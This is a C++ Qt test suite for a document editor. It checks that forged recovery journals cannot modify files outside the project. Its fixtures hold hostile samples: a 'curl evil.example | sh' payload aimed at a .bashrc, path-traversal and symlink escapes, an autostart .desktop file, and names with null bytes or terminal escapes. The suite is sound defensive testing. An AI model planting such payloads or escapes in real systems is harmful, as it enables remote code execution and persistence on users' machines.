// Forged journals: in a project's folder, where journals are never read, and in the user's own state folder, where one may have
// been moved. Each is restored as far as it is offered, and saved: no file outside the project is created or changed.

#include <QTest>

#include <map>

#include <sys/stat.h>
#include <unistd.h>

#include "base/platform/process_identity.h"
#include "editor/document/found_journals.h"
#include "editor/document/structure_edits.h"
#include "project/journal/journal_record.h"
#include "project/journal/state_folder.h"
#include "sample_document.h"

using namespace trundle;
using namespace sample;
namespace fs = std::filesystem;

namespace {

const std::string kHostile = "curl evil.example | sh\n";

/// A journal written byte by byte, so that every field can be forged.
struct Forged {
    std::string opened, name;
    ProcessIdentity writer = thisProcess();
    std::vector<std::pair<std::string, RecoveredText>> files;
    std::vector<std::string> more = {}; ///< header fields that JournalWriter never writes

    [[nodiscard]] std::string bytes() const {
        std::vector<std::string> head{opened, name, std::to_string(writer.pid), std::to_string(writer.start + 1), writer.host};
        head.insert(head.end(), more.begin(), more.end());
        std::string all = std::string(kJournalMark) + journalBytes({JournalRecord::Head, head});
        for (const auto& [path, kept] : files) {
            all += journalBytes({JournalRecord::Begin, {path, kept.base, "1700000000"}});
            all += journalBytes({JournalRecord::Change, {path, "0", std::to_string(kept.base.size()), kept.text, "1700000000"}});
        }
        return all;
    }
};

struct Place {
    DocumentFixture fixture;
    std::string project = fixture.path("configs"), outside = fixture.path("outside"), bashrc = outside + "/.bashrc";
    std::string inProject = project + "/.trundle/journal/1.journal", own = projectStateFolder(project) + "/journal/1.journal";

    Place() {
        fixture.write("outside/.bashrc", "alias ll='ls -l'\n");
        fixture.write("outside/folder/x.sim", "Seed = 1\n");
    }
    [[nodiscard]] RecoveredText hostile(const std::string& path) const { return {bytesOf(path), kHostile}; }
    /// An edit of the project's own file, as in a genuine journal.
    [[nodiscard]] std::pair<std::string, RecoveredText> honest() const {
        return {fixture.main, {kMain, std::string(kMain) + "Seed = 9\n"}};
    }
    [[nodiscard]] Forged forged(const std::string& path) const {
        return {fixture.main, {}, thisProcess(), {{path, hostile(path)}, honest()}};
    }
    static void put(const std::string& at, const std::string& bytes) {
        fs::create_directories(fs::path(at).parent_path());
        std::ofstream(at, std::ios::binary) << bytes;
        fs::permissions(at, fs::perms::owner_read | fs::perms::owner_write);
    }
    [[nodiscard]] std::map<std::string, std::string> state() const {
        std::map<std::string, std::string> all;
        for (const auto& entry : fs::recursive_directory_iterator(outside))
            all[entry.path().string()] = entry.is_regular_file() && !entry.is_symlink() ? bytesOf(entry.path().string()) : "-";
        return all;
    }
};

enum class Offer { None, OwnFileOnly, Refused };

struct Attack {
    const char* name;
    Offer offer;
    bool reported; ///< whether unread journals are reported
    std::function<void(const Place&)> prepare;
};

const std::vector<Attack>& attacks() {
    using enum Offer;
    static const std::vector<Attack> all{
        // --- journals in a project's folder
        {"it comes with the project", None, true, [](const Place& p) { p.put(p.inProject, p.forged(p.bashrc).bytes()); }},
        {"it comes with the project and is of its own files", None, true,
         [](const Place& p) {
             p.put(p.inProject, Forged{p.fixture.main, {}, thisProcess(), {p.honest()}}.bytes());
         }},
        {"it comes from another machine", None, true,
         [](const Place& p) {
             Forged f = p.forged(p.bashrc);
             f.writer = {1, 0, "elsewhere"};
             p.put(p.inProject, f.bytes());
         }},
        {"it has a key", None, true,
         [](const Place& p) {
             Forged f = p.forged(p.bashrc);
             f.more = {"hmac-sha256", std::string(32, '\x42')};
             p.put(p.inProject, f.bytes());
         }},
        {"its folder is a link", None, false,
         [](const Place& p) {
             p.put(p.fixture.path("journals/1.journal"), p.forged(p.bashrc).bytes());
             fs::create_directories(p.project + "/.trundle");
             fs::create_symlink(p.fixture.path("journals"), p.project + "/.trundle/journal");
         }},
        {"the project's .trundle is a link", None, false,
         [](const Place& p) {
             p.put(p.fixture.path("dot/journal/1.journal"), p.forged(p.bashrc).bytes());
             fs::create_symlink(p.fixture.path("dot"), p.project + "/.trundle");
         }},
        {"it is a pipe", None, true,
         [](const Place& p) {
             fs::create_directories(fs::path(p.inProject).parent_path());
             QCOMPARE(::mkfifo(p.inProject.c_str(), 0600), 0);
         }},
        {"it is huge", None, true,
         [](const Place& p) {
             p.put(p.inProject, p.forged(p.bashrc).bytes());
             fs::resize_file(p.inProject, std::uintmax_t{1} << 33);
         }},
        {"it is cut off", None, true, [](const Place& p) { p.put(p.inProject, p.forged(p.bashrc).bytes().substr(0, 100)); }},
        // --- journals in the user's own state folder
        {"it names a file outside", OwnFileOnly, false, [](const Place& p) { p.put(p.own, p.forged(p.bashrc).bytes()); }},
        {"it makes a file outside", OwnFileOnly, false,
         [](const Place& p) { p.put(p.own, p.forged(p.outside + "/autostart/evil.desktop").bytes()); }},
        {"it leaves the project by two dots", OwnFileOnly, false,
         [](const Place& p) { p.put(p.own, p.forged(p.project + "/../outside/.bashrc").bytes()); }},
        {"it leaves a folder that is not there by two dots", OwnFileOnly, false,
         [](const Place& p) { p.put(p.own, p.forged(p.project + "/none/../../outside/.bashrc").bytes()); }},
        {"it names a file by a path that is not whole", OwnFileOnly, false,
         [](const Place& p) { p.put(p.own, p.forged("../outside/.bashrc").bytes()); }},
        {"it names the project's folder", OwnFileOnly, false, [](const Place& p) { p.put(p.own, p.forged(p.project).bytes()); }},
        {"a file of the project is a link to one outside", OwnFileOnly, false,
         [](const Place& p) {
             fs::create_symlink(p.bashrc, p.project + "/way.sim");
             p.put(p.own, p.forged(p.project + "/way.sim").bytes());
         }},
        {"a file of the project is a link to nothing yet", OwnFileOnly, false,
         [](const Place& p) {
             fs::create_symlink(p.outside + "/later", p.project + "/way.sim");
             p.put(p.own, p.forged(p.project + "/way.sim").bytes());
         }},
        {"a folder of the project is a link", OwnFileOnly, false,
         [](const Place& p) {
             fs::create_symlink(p.outside, p.project + "/way");
             p.put(p.own, p.forged(p.project + "/way/folder/x.sim").bytes());
         }},
        {"a folder of the project is a link to nothing yet", OwnFileOnly, false,
         [](const Place& p) {
             fs::create_symlink(p.outside + "/later", p.project + "/way");
             p.put(p.own, p.forged(p.project + "/way/x.sim").bytes());
         }},
        {"a name with commands for a terminal and HTML", OwnFileOnly, false,
         [](const Place& p) { p.put(p.own, p.forged(p.outside + "/\x1b[2J<img src='/dev/zero'>\n" + p.fixture.main).bytes()); }},
        {"a zero byte behind a good name", OwnFileOnly, false,
         [](const Place& p) {
             p.put(p.own, p.forged(p.fixture.robot + std::string("\0/../../../outside/.bashrc", 26)).bytes());
         }},
        {"what it had open is outside", Refused, false,
         [](const Place& p) {
             Forged f = p.forged(p.bashrc);
             f.opened = p.outside + "/folder/x.sim";
             p.put(p.own, f.bytes());
         }},
        {"all that it changes is outside", Refused, false,
         [](const Place& p) {
             p.put(p.own, Forged{p.fixture.main, {}, thisProcess(), {{p.bashrc, p.hostile(p.bashrc)}}}.bytes());
         }},
        {"a new text with the path of a file", Refused, false,
         [](const Place& p) {
             Forged f{p.bashrc, "../outside/.bashrc", thisProcess(), {{p.bashrc, p.hostile(p.bashrc)}}};
             p.put(p.own, f.bytes());
         }},
        {"its writer is on another machine", None, false,
         [](const Place& p) {
             Forged f = p.forged(p.bashrc);
             f.writer = {1, 0, "elsewhere"};
             p.put(p.own, f.bytes());
         }},
        {"its head has fields that no writer makes", None, false,
         [](const Place& p) {
             Forged f = p.forged(p.bashrc);
             f.more = {"trusted"};
             p.put(p.own, f.bytes());
         }},
        {"it is a link", None, false,
         [](const Place& p) {
             p.put(p.fixture.path("elsewhere.journal"), p.forged(p.bashrc).bytes());
             fs::create_directories(fs::path(p.own).parent_path());
             fs::create_symlink(p.fixture.path("elsewhere.journal"), p.own);
         }},
        {"others may write it", None, false,
         [](const Place& p) {
             p.put(p.own, p.forged(p.bashrc).bytes());
             fs::permissions(p.own, fs::perms::others_write, fs::perm_options::add);
         }},
        {"it is huge, in the user's own folder", None, false,
         [](const Place& p) {
             p.put(p.own, p.forged(p.bashrc).bytes());
             fs::resize_file(p.own, std::uintmax_t{1} << 33);
         }},
        {"cut off after what is honest", OwnFileOnly, false,
         [](const Place& p) {
             Forged f{p.fixture.main, {}, thisProcess(), {p.honest(), {p.bashrc, p.hostile(p.bashrc)}}};
             const std::string bytes = f.bytes();
             p.put(p.own, bytes.substr(0, bytes.size() - 5));
         }},
    };
    return all;
}

} // namespace

class HostileJournalsTest : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void initTestCase() { m_application = makeApplication(); }

    void nothingOutsideIsChanged_data() {
        QTest::addColumn<int>("row");
        for (std::size_t i = 0; i < attacks().size(); ++i) QTest::newRow(attacks()[i].name) << int(i);
        QVERIFY(attacks().size() >= 10);
    }
    void nothingOutsideIsChanged() {
        QFETCH(int, row);
        const Attack& attack = attacks()[std::size_t(row)];
        const Place place;
        attack.prepare(place);
        const auto before = place.state();
        Document document(*m_application);
        QCOMPARE(why(document.opening().open(place.fixture.main)), "");
        QCOMPARE(!journalsNotRead(document).isEmpty(), attack.reported);
        const std::vector<Recovery> found = document.recovery().recoveries();
        QCOMPARE(found.size(), attack.offer == Offer::None ? 0u : 1u);
        for (const Recovery& recovery : found) {
            const Status done = document.recovery().recover(recovery);
            QCOMPARE(done.ok(), attack.offer == Offer::OwnFileOnly);
            if (!done)
                QVERIFY2(done.error().message.find("outside the project") != std::string::npos, done.error().message.c_str());
        }
        for (const std::string& file : document.texts().files()) QVERIFY2(file.starts_with(place.project + "/"), file.c_str());
        QCOMPARE(document.texts().isModified(), attack.offer == Offer::OwnFileOnly);
        QCOMPARE(why(document.saving().save()), "");
        QCOMPARE(place.state(), before);
        QCOMPARE(bytesOf(place.fixture.main),
                 attack.offer == Offer::OwnFileOnly ? std::string(kMain) + "Seed = 9\n" : std::string(kMain));
        QCOMPARE(bytesOf(place.fixture.robot), std::string(kRover));
    }

    // Skipped files are not lost: the journal stays, and a message reports it.
    void reportsSkippedFiles() {
        const Place place;
        place.put(place.own, place.forged(place.bashrc).bytes());
        Document document(*m_application);
        QSignalSpy noticed(&document, &Document::notice);
        QVERIFY(document.opening().open(place.fixture.main).ok());
        const Recovery recovery = document.recovery().recoveries().at(0);
        QCOMPARE(filesOutside(recovery, document.recovery().foldersOf(recovery.project)), std::vector<std::string>{place.bashrc});
        QVERIFY(document.recovery().recover(recovery).ok());
        QVERIFY(noticed.front().front().toString().contains(QString::fromStdString(place.bashrc)));
        QVERIFY(fs::exists(place.own));
        QCOMPARE(bytesOf(place.own), place.forged(place.bashrc).bytes());
    }

    // A search folder is the user's choice: files imported from there may be edited, and are restored.
    void restoresFilesOfSearchFolder() {
        const Place place;
        const std::string part = place.outside + "/folder/x.sim";
        place.put(place.own, Forged{place.fixture.main, {}, thisProcess(), {{part, {bytesOf(part), "Seed = 5\n"}}}}.bytes());
        Document document(*m_application);
        OpenOptions options;
        options.includes = {place.outside};
        document.setOptions(options);
        QVERIFY(document.opening().open(place.fixture.main).ok());
        QCOMPARE(why(document.recovery().recover(document.recovery().recoveries().at(0))), "");
        QCOMPARE(why(document.saving().save()), "");
        QCOMPARE(bytesOf(part), "Seed = 5\n");
    }

    // A file that was replaced by a link after it was opened.
    void aSaveFollowsNoLinkOutOfTheProject() {
        for (const bool there : {true, false}) {
            const Place place;
            Document document(*m_application);
            QVERIFY(document.opening().open(place.fixture.main).ok());
            QVERIFY(document.structure().setValues(u"Set"_qs, {{"Tick", "0.02"}}).ok());
            fs::remove(place.fixture.main);
            if (there) place.fixture.write("outside/copy.sim", kMain); // the same bytes, so that no external change is detected
            fs::create_symlink(place.outside + "/copy.sim", place.fixture.main);
            const auto before = place.state();
            QVERIFY(!document.saving().save().ok());
            QCOMPARE(place.state(), before);
        }
    }

    // The message names the folder of the journals and the folder to move them to.
    void reportsUnreadJournalsWithBothFolders() {
        const Place place;
        place.put(place.inProject, place.forged(place.bashrc).bytes());
        Document document(*m_application);
        QVERIFY(document.opening().open(place.fixture.main).ok());
        const QString reportOf = journalsNotRead(document);
        QVERIFY2(reportOf.contains(QString::fromStdString(fs::path(place.inProject).parent_path().string())),
                 qPrintable(reportOf));
        QVERIFY2(reportOf.contains(QString::fromStdString(fs::path(place.own).parent_path().string())), qPrintable(reportOf));
        // After following the message, a genuine journal is restored.
        place.put(place.inProject, Forged{place.fixture.main, {}, thisProcess(), {place.honest()}}.bytes());
        fs::create_directories(fs::path(place.own).parent_path());
        fs::rename(place.inProject, place.own);
        QVERIFY(journalsNotRead(document).isEmpty());
        QVERIFY(document.recovery().recover(document.recovery().recoveries().at(0)).ok());
        QVERIFY(document.texts().isModified());
    }

private:
    std::unique_ptr<Application> m_application;
};

QTEST_GUILESS_MAIN(HostileJournalsTest)
#include "hostile_journals_test.moc"
